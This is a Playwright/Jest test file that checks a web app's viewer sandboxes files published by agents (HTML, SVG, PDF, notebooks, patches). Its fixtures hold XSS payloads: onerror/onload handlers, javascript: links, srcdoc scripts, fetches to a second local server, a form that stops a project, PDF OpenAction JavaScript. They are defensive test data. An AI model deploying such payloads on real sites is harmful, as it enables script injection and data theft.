import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Frame, Page } from 'playwright-core';
import { type TestApi, testApi } from '../../services/api/test/support/api.js';
import { publish, publishDirectory } from '../../services/api/test/support/play.js';
import { linkFor } from '../../services/api/test/support/sign-in.js';
import { eventually, soon } from '../../test/support/poll.js';
import { pdfOf, redPoint } from './support/documents.js';
import { desk, go, phone, testBrowser, violations } from './support/browser.js';

const browser = testBrowser();
let api: TestApi;
/** Another server: nothing that an agent wrote may reach it. */
let elsewhere: Server;
let away: string;
let reached: string[] = [];
/** What was sent there. Chromium may open a connection ahead, whatever a policy says, and sends nothing over it. */
const sent = () => reached.filter((line) => line !== 'connected');
beforeAll(async () => {
  elsewhere = createServer((socket) => {
    reached.push('connected');
    socket.on('data', (bytes) => reached.push(bytes.toString('latin1').split('\r\n')[0] ?? ''));
    socket.on('error', () => undefined);
  }).listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  away = `http://127.0.0.1:${String((elsewhere.address() as AddressInfo).port)}`;
  api = await testApi();
  await api.create();
  const file = (name: string, content: string | Buffer) =>
    publish(api, 'team', 'ada', { name, content: Buffer.from(content) });
  await file('level.html', level);
  await file('hostile.html', hostilePage());
  await file('hostile.svg', hostileDrawing());
  await publishDirectory(api, 'team', 'site', { 'index.html': level });
  await file('report.pdf', pdfOf(['The river is at 3.2 m', 'North', 'South', 'East', 'West', 'Sea']));
  await file('long.pdf', pdfOf(Array.from({ length: 1_000 }, (_, index) => `Gauge ${String(index + 1)}`)));
  await file('broken.pdf', 'This is no PDF.');
  await file('cut.pdf', pdfOf(['Half of it']).subarray(0, 120));
  await file('acting.pdf', pdfOf(['It acts'], { extra: acting(), box: '0 0 14000 14000000' }));
  await file('levels.ipynb', JSON.stringify(notebook));
  await file('broken.ipynb', '{"cells": [');
});
afterAll(async () => {
  await api.close();
  elsewhere.close();
});

const patch = `diff --git a/level.txt b/level.txt
--- a/level.txt
+++ b/level.txt
@@ -1 +1 @@
-3.1 m
+3.2 m
`;

const level =
  '<!doctype html><title>Level</title><style>h1 { color: rgb(1, 2, 3) }</style><h1>The river is at 3.2 m</h1>';

/** What an agent's page may try. What runs or is fetched says so in the title, or at the other server. */
function hostilePage(): string {
  const run = `try { top.document.title = 'run' } catch {} fetch('${away}/script'); fetch('/api/projects/team')`;
  return `<!doctype html><html><head><meta charset="utf-8">
    <base href="${away}/based/" target="_top">
    <meta http-equiv="refresh" content="0; url=${away}/refresh">
    <meta http-equiv="content-security-policy" content="default-src *">
    <link rel="stylesheet" href="${away}/sheet.css"><link rel="prefetch" href="${away}/prefetch">
    <link rel="preload" as="image" href="${away}/preload"><link rel="modulepreload" href="${away}/module">
    <link rel="icon" href="${away}/icon"><link rel="manifest" href="${away}/manifest">
    <link rel="preconnect" href="${away}"><link rel="dns-prefetch" href="${away}"><link rel="prerender" href="${away}/prerender">
    <style>@import url(${away}/import.css); @font-face { font-family: x; src: url(${away}/font) }
      body { background: url(${away}/background); font-family: x }</style>
    <script type="speculationrules">{"prefetch": [{"urls": ["${away}/speculated"], "eagerness": "immediate"}]}</script>
    <script>${run}</script><script src="${away}/script.js"></script><script src="data:text/javascript,${encodeURIComponent(run)}"></script>
    </head><body onload="${run}" onpageshow="${run}"><h1>Hostile</h1>
    <img src="${away}/picture" onerror="${run}"><img src="relative.png" srcset="${away}/set 2x"><img src="/api/projects/team">
    <svg onload="${run}"><script>${run}</script><image href="${away}/image"/><use href="${away}/use#x"/></svg>
    <video src="${away}/video" autoplay></video><audio src="${away}/audio" autoplay></audio>
    <iframe src="${away}/frame"></iframe><iframe src="/api/projects/team"></iframe>
    <iframe srcdoc="<script>${run.replaceAll('"', '&quot;')}</script>"></iframe>
    <iframe src="javascript:${run.replaceAll('"', '&quot;')}"></iframe>
    <object data="${away}/object"></object><embed src="${away}/embed"><input autofocus onfocus="${run}">
    <details open ontoggle="${run}"><summary>More</summary></details>
    <form action="${away}/form" method="post"><input name="a" value="1"><button>Send there</button></form>
    <form action="/api/projects/team/stop" method="post" target="_self"><button>Stop the project</button></form>
    <a href="${away}/top" target="_top">Instead of the page</a>
    <a href="${away}/new" target="_blank">In a new window</a>
    <a href="${away}/here" target="_self" ping="${away}/ping">Instead of the frame</a>
    <a href="${api.url}/api/projects/team" target="_self">To the API</a>
    <a href="${api.url}/p/team" target="_self">To the page</a>
    <a href="javascript:${run.replaceAll('"', '&quot;')}" target="_self">By script</a>
    </body></html>`;
}

function hostileDrawing(): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 300 100" onload="top.document.title='run'">
    <script>top.document.title = 'run'; fetch('${away}/svg-script')</script><script href="${away}/svg.js"/>
    <style>@import url(${away}/svg.css);</style>
    <image href="${away}/svg-image" width="10" height="10"/><use xlink:href="${away}/svg-use#x"/>
    <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}/svg-frame"/></foreignObject>
    <animate attributeName="x" begin="0s" onbegin="top.document.title='run'"/>
    <a href="${away}/svg-top" target="_top"><text y="40">Drawn by an agent</text></a>
  </svg>`;
}

/** What a PDF may want a reader to do when it is opened. */
function acting(): string {
  const action = `<< /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('${away}/submit'\\)) >>`;
  return `/OpenAction ${action} /Names << /JavaScript << /Names [(a) ${action}] >> >> /URI << /Base (${away}/) >>`;
}

const hostileText = `<img src=x onerror="document.title='run'"><script>document.title='run'</script>\u202e`;
const notebook = {
  nbformat: 4,
  cells: [
    { cell_type: 'markdown', source: ['# Levels\n', `of today ${hostileText}`] },
    {
      cell_type: 'code',
      execution_count: 7,
      source: ['print(levels.mean())\n', 'levels.plot()'],
      outputs: [
        { output_type: 'stream', name: 'stdout', text: ['3.2\n', hostileText] },
        { output_type: 'display_data', data: { 'image/png': `${redPoint}\n`, 'text/html': hostileText } },
        {
          output_type: 'display_data',
          data: { 'image/svg+xml': '<svg onload="document.title=1"/>', 'text/html': '<b>' },
        },
        {
          output_type: 'error',
          ename: 'KeyError',
          evalue: 'south',
          traceback: ['\u001b[0;31mKeyError\u001b[0m: south'],
        },
        null,
      ],
    },
    { cell_type: 'code', execution_count: null, source: 'x'.repeat(100_000), outputs: 'none' },
    'no cell',
    ...Array.from({ length: 400 }, () => ({ cell_type: 'raw', source: 'again' })),
  ],
};

async function open(path: string, options: Parameters<typeof browser.open>[0] = { viewport: desk }) {
  const page = await browser.page(await browser.open(options));
  await page.goto((await linkFor(api, { path })).url);
  await page.getByRole('navigation', { name: 'Suzumio' }).waitFor();
  return page;
}

/** The frame of a document, once the browser has it. */
async function frameOf(page: Page, text: string): Promise<Frame> {
  await page.frameLocator('iframe.framed').getByText(text).first().waitFor();
  const frame = await (await page.locator('iframe.framed').elementHandle()).contentFrame();
  if (!frame) throw new Error('there is no frame');
  return frame;
}

describe('a document of an agent', () => {
  test('is shown as it looks, and its source beside', async () => {
    const page = await open('/p/team/files');
    await page.getByRole('link', { name: /level\.html/ }).click();
    const frame = await frameOf(page, 'The river is at 3.2 m');
    expect(await frame.evaluate('[origin, getComputedStyle(document.querySelector("h1")).color]')).toEqual([
      'null',
      'rgb(1, 2, 3)',
    ]);
    await page.getByRole('button', { name: 'Source' }).click();
    await page.getByText('<!doctype html><title>Level</title>').waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
    await page.getByRole('link', { name: /site/ }).click();
    await page.getByRole('button', { name: /index\.html/ }).click();
    await frameOf(page, 'The river is at 3.2 m');
  });

  test('runs nothing, fetches nothing, and goes nowhere', async () => {
    reached = [];
    const page = await open('/p/team/files');
    const pages = page.context().pages().length;
    const answered: string[] = [];
    const withCookie: string[] = [];
    page.on('request', (request) => {
      if (request.frame() === page.mainFrame()) return;
      if (request.url().endsWith('/view')) return;
      request.allHeaders().then(
        ({ cookie }) => cookie !== undefined && withCookie.push(request.url()),
        () => undefined,
      );
    });
    page.on('response', (response) => answered.push(response.url()));
    await page.getByRole('link', { name: /hostile\.html/ }).click();
    await frameOf(page, 'Hostile');
    const place = page.url();
    await page.getByRole('button', { name: 'Source' }).click();
    await page.getByRole('button', { name: 'As it looks' }).click();
    await frameOf(page, 'Hostile');
    expect(sent()).toEqual([]);
    const inFrame = page.frameLocator('iframe.framed');
    const acts = ['Send there', 'Stop the project', 'Instead of the page', 'In a new window', 'Instead of the frame'];
    for (const name of [...acts, 'To the API', 'To the page', 'By script']) {
      await inFrame.getByText(name).click();
      // Whatever comes of it has come once the page has answered twice, and the frame is made anew.
      await page.getByRole('button', { name: 'Source' }).click();
      await page.getByRole('button', { name: 'As it looks' }).click();
      await frameOf(page, 'Hostile');
    }
    await page.getByRole('link', { name: /hostile\.svg/ }).click();
    await frameOf(page, 'Drawn by an agent');
    await inFrame.getByText('Drawn by an agent').click();
    await page.getByRole('button', { name: 'Source' }).click();
    await page.getByText('foreignObject').first().waitFor();
    await page.getByRole('link', { name: /level\.html/ }).click();
    await frameOf(page, 'The river is at 3.2 m');

    // The frame that leads itself to the API is a stranger there.
    browser.expectErrors(/sandboxed|Content Security Policy|Unsafe attempt to|status of 401/);
    expect(sent()).toEqual([]);
    expect(withCookie).toEqual([]);
    expect(answered.filter((url) => !url.startsWith(api.url))).toEqual([]);
    expect(await page.title()).not.toBe('run');
    expect(new URL(page.url()).pathname.split('/').slice(0, 4)).toEqual(new URL(place).pathname.split('/').slice(0, 4));
    expect(page.context().pages()).toHaveLength(pages);
    const { project } = (await api.get('/api/projects/team')).json as { project: { status: string } };
    expect(project.status).toBe('running');
  });

  test('is not shown by itself, nor to another site', async () => {
    const page = await open('/p/team/files');
    await page.getByRole('link', { name: /level\.html/ }).click();
    await frameOf(page, 'The river is at 3.2 m');
    const address = (await page.locator('iframe.framed').getAttribute('src')) ?? '';
    const answer = await page.goto(new URL(address, api.url).href);
    expect(answer?.status()).toBe(400);
    await eventually('it is said why', async () => /frame of the page alone/.test(await page.content()));
    browser.expectErrors(/status of 400/);
  });
});

describe('a PDF', () => {
  /** How much ink is on the first page that is drawn. */
  const ink = `(() => {
    const canvas = document.querySelector('.pdf-page canvas');
    const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
    let dark = 0;
    for (let at = 0; at < data.length; at += 4) if (data[at + 3] > 0 && data[at] < 100) dark += 1;
    return dark;
  })()`;

  test('is drawn some pages at a time', async () => {
    const page = await open('/p/team/files');
    await page.getByRole('link', { name: /report\.pdf/ }).click();
    await page.getByText('The river is at 3.2 m').waitFor({ state: 'attached' });
    expect(await page.evaluate<number>(ink)).toBeGreaterThan(100);
    await page.getByText('Pages 1 to 4 of 6').waitFor();
    await page.getByRole('button', { name: 'Later' }).click();
    await page.getByText('Sea', { exact: true }).waitFor({ state: 'attached' });
    expect(await page.locator('canvas').count()).toBe(2);
    await page.getByRole('link', { name: /long\.pdf/ }).click();
    await page.getByText('Pages 1 to 4 of 1,000').waitFor();
    await page.getByLabel('From page').fill('998');
    await page.getByText('Gauge 1000').waitFor({ state: 'attached' });
    expect(await page.locator('canvas').count()).toBe(3);
    expect(await page.title()).not.toBe('run');
  });

  test('that cannot be shown says so beside its download', async () => {
    const page = await open('/p/team/files');
    for (const name of [/broken\.pdf/, /cut\.pdf/]) {
      await page.getByRole('link', { name }).click();
      await page.getByText('This PDF cannot be shown: it is broken, or no PDF at all.').waitFor();
      await page.getByRole('link', { name: 'Download it' }).waitFor();
    }
  });

  test('does nothing, and is drawn no larger than there is room', async () => {
    reached = [];
    const page = await open('/p/team/files');
    await page.getByRole('link', { name: /acting\.pdf/ }).click();
    await page.getByText('It acts').waitFor({ state: 'attached' });
    const points = await page.evaluate<number>(
      '(({ width, height }) => width * height)(document.querySelector(".pdf-page canvas"))',
    );
    expect(points).toBeLessThanOrEqual(6_000_000);
    expect(reached).toEqual([]);
  });
});

describe('a notebook', () => {
  test('is shown as its words, its code, and what that has printed and drawn', async () => {
    const page = await open('/p/team/files');
    await page.getByRole('link', { name: /levels\.ipynb/ }).click();
    await page.getByRole('heading', { name: 'Levels', exact: true }).waitFor();
    await page.getByText('[7]').waitFor();
    await page.getByText('print(levels.mean())').waitFor();
    await page.getByText('KeyError: south', { exact: true }).waitFor();
    const picture = page.getByRole('img', { name: 'A picture that this code has drawn' });
    await picture.waitFor();
    const drawn = 'document.querySelector(".notebook img")';
    expect(await page.evaluate<number>(`${drawn}.decode().then(() => ${drawn}.naturalWidth)`)).toBe(1);
    await soon(async () => {
      expect(await page.locator('.notebook img').count()).toBe(1);
    });
    await page.getByText('and 104 more cells').waitFor();
    expect(await page.title()).not.toBe('run');
    const longest = await page.evaluate<number>(
      'Math.max(...[...document.querySelectorAll(".notebook pre")].map((one) => one.textContent.length))',
    );
    expect(longest).toBeLessThan(21_000);
  });

  test('that is broken is shown as its text', async () => {
    const page = await open('/p/team/files');
    await page.getByRole('link', { name: /broken\.ipynb/ }).click();
    await page.getByText('It is no notebook that can be read: this is its text.').waitFor();
    await page.getByText('{"cells": [', { exact: true }).waitFor();
  });
});

test('a patch says what commit it is against, and how it is taken', async () => {
  const base = '4b825dc642cb6eb9a060e54bf8d69288fbee4904';
  const { id } = await publish(api, 'team', 'ada', { name: 'tides.patch', content: Buffer.from(patch), base });
  const page = await open(`/p/team/files/${id}`, { viewport: phone });
  const foot = page.locator('.about-foot');
  await page.getByText('against the commit 4b825dc642cb').waitFor();
  await foot.getByText(`suzumio patch apply team ${id}`).waitFor();
  const changes = page.getByRole('region', { name: 'level.txt' });
  await changes.getByText('3.2 m').waitFor();
  await page.getByRole('button', { name: 'Source' }).click();
  await page.getByText('@@ -1 +1 @@').waitFor();
  await page.getByRole('button', { name: 'Changes' }).click();
  await changes.getByText('3.2 m').waitFor();
  expect(await violations(page)).toEqual([]);
  await go(page, '/p/team/files');
  await page.getByRole('link', { name: /level\.html/ }).click();
  await frameOf(page, 'The river is at 3.2 m');
  expect(await foot.innerText()).not.toContain('suzumio patch');
});

test('everything is downloaded at once', async () => {
  const page = await open('/p/team/files', { viewport: desk, acceptDownloads: true });
  const downloading = page.waitForEvent('download');
  await page.getByRole('link', { name: 'Download all' }).click();
  const download = await downloading;
  expect(download.suggestedFilename()).toBe('team-artifacts.tar');
  const archive = await readFile(await download.path(), 'latin1');
  for (const name of ['level.html', 'report.pdf', 'site/index.html'])
    expect(archive).toContain(`team-artifacts/${name}`);
});

test.each([desk, phone])('all of it is for everybody at %o', async (viewport) => {
  const page = await open('/p/team/files', { viewport });
  await page.getByRole('link', { name: /level\.html/ }).click();
  await frameOf(page, 'The river is at 3.2 m');
  expect(await violations(page)).toEqual([]);
  for (const [name, shown] of [
    [/report\.pdf/, 'Page 1'],
    [/levels\.ipynb/, 'print(levels.mean())'],
  ] as const) {
    await go(page, '/p/team/files');
    await page.getByRole('link', { name }).click();
    await page.getByText(shown).waitFor();
    expect({ name, violations: await violations(page) }).toEqual({ name, violations: [] });
  }
  const width = await page.evaluate<number>('document.documentElement.scrollWidth');
  expect(width).toBeLessThanOrEqual(viewport.width);
  // axe asks each frame, and a sandboxed one has another origin.
  browser.expectErrors(/'postMessage' .* recipient window's origin \('null'\)/);
});
